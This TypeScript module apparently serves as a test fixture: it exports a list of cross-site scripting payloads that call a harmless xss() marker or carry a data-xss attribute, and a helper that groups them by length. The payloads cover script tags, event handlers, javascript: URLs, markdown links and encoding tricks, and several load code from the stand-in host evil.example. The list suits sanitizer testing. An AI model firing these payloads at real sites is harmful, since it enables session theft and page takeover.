/**
 * Texts that become a script, an element or an address where a page takes them for markup. What runs calls `xss()`;
 * what becomes an element bears `data-xss`.
 */
export const XSS_PAYLOADS: readonly string[] = [
  `<script>xss()</script>`,
  `<script data-xss>xss()</script>`,
  `<ScRiPt>xss()</sCrIpT>`,
  `<script src=data:,xss()></script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script type=module>xss()</script>`,
  `"><script>xss()</script>`,
  `'><script>xss()</script>`,
  `</title><script>xss()</script>`,
  `</textarea><script>xss()</script>`,
  `</script><script>xss()</script>`,
  `<!--><script>xss()</script-->`,
  `--><script>xss()</script>`,
  `]]><script>xss()</script>`,
  `<img src=x onerror=xss() data-xss>`,
  `<img/src=x/onerror=xss() data-xss>`,
  `"><img src=x onerror=xss() data-xss>`,
  `" onerror="xss()" data-xss="`,
  `' onmouseover='xss()' data-xss='`,
  `x" autofocus onfocus=xss() data-xss="`,
  `<img src=\`x\` onerror=xss() data-xss>`,
  `<img src onerror=xss() data-xss>`,
  `<svg onload=xss() data-xss>`,
  `<svg><script>xss()</script></svg>`,
  `<svg><animate onbegin=xss() attributeName=x data-xss>`,
  `<svg><a xlink:href=javascript:xss()><text data-xss>a`,
  `<svg><use href=data:image/svg+xml,x data-xss>`,
  `<math><mtext><script>xss()</script></math>`,
  `<body onload=xss() data-xss>`,
  `<iframe src=javascript:xss() data-xss></iframe>`,
  `<iframe srcdoc="<script>parent.xss()</script>" data-xss>`,
  `<object data=javascript:xss() data-xss></object>`,
  `<embed src=javascript:xss() data-xss>`,
  `<details open ontoggle=xss() data-xss>`,
  `<video><source onerror=xss() data-xss></video>`,
  `<audio src=x onerror=xss() data-xss>`,
  `<input autofocus onfocus=xss() data-xss>`,
  `<select autofocus onfocus=xss() data-xss>`,
  `<marquee onstart=xss() data-xss>`,
  `<a href=javascript:xss() data-xss>a</a>`,
  `javascript:xss()`,
  `[a](javascript:xss())`,
  `![a](x"onerror="xss())`,
  `[a](data:text/html,<script>xss()</script>)`,
  `<javascript:xss()>`,
  `<form action=javascript:xss() data-xss><button>a`,
  `<base href=//evil.example/ data-xss>`,
  `<link rel=stylesheet href=//evil.example/x.css data-xss>`,
  `<meta http-equiv=refresh content="0;url=javascript:xss()">`,
  `<style>@import'//evil.example/x.css';</style>`,
  `<style data-xss>*{display:none}</style>`,
  `<div style="background:url(javascript:xss())" data-xss>`,
  `&lt;script&gt;xss()&lt;/script&gt;`,
  `&#60;img src=x onerror=xss() data-xss&#62;`,
  `\\u003cscript\\u003exss()\\u003c/script\\u003e`,
  `%3Cscript%3Exss()%3C/script%3E`,
  `＜script＞xss()＜/script＞`,
  `<scr\u200dipt>xss()</scr\u200dipt>`,
  `{{constructor.constructor('xss()')()}}`,
  "${xss()}",
  `<%= xss() %>`,
  `$& $\` $' $1 <b data-xss>a</b>`,
  `<noscript><p title="</noscript><img src=x onerror=xss() data-xss>">`,
  `<p id="__proto__" data-xss>a`,
  `<template shadowrootmode=open><script>xss()</script></template>`,
  `<x onclick=xss() data-xss tabindex=1>a`,
];

/** The payloads in groups whose texts, a line each, are no longer than that. */
export function groupedPayloads(most: number): string[] {
  const groups: string[] = [];
  for (const payload of XSS_PAYLOADS) {
    const last = groups.at(-1);
    const joined = `${last}\n${payload}`;
    if (last !== undefined && joined.length <= most) groups[groups.length - 1] = joined;
    else groups.push(payload);
  }
  return groups;
}
